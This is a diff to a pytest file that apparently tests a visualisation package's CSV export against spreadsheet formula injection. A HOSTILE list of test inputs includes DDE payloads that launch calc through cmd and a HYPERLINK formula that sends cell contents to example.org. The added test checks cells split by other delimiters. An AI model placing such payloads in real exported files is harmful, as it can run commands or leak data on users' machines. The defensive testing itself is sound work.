@@ -22,7 +22,7 @@ PACKAGE = Path(__file__).parents[1] / "resnext_viz"
 SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 HOSTILE = (
     "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "=", "-", "-1_0", "+1,2", "-٣", "=1;\"=2", "＝1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "\t1", "\r=1+1", "\n=1+1", "=", "-", "-1_0", "+1,2", "-٣", "＝1+1",
     "-inf", "=1\r=2", "=1\n=2",
 )  # fmt: skip
 
@@ -42,6 +42,14 @@ def assert_harmless(text: str, *words: str) -> None:
 def test_a_word_that_would_be_a_formula_is_text_in_a_cell_and_in_a_heading(word: str) -> None:
     assert_harmless(csv_text([{"file": word, word: 1}]), word)
     assert_harmless(csv_table([word, word], [[word, 1]]), word)
+
+
+@pytest.mark.parametrize("delimiter", [";", "\t"])
+@pytest.mark.parametrize("word", ["cat{}=1+1{}x.jpg", "{}=1+1", "{} +1", "a{}{}@SUM(1)", '=1{}"=2', "a{}'-2", "a{}＝1"])
+def test_no_cell_begins_a_formula_where_another_sign_parts_the_cells(word: str, delimiter: str) -> None:
+    text = csv_text([{"file": word.format(delimiter, delimiter), "share": 0.5}])
+    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+        assert not [cell for cell in row if cell.strip(" \"").startswith(SIGNS)]
 
 
 @pytest.mark.parametrize("value", [
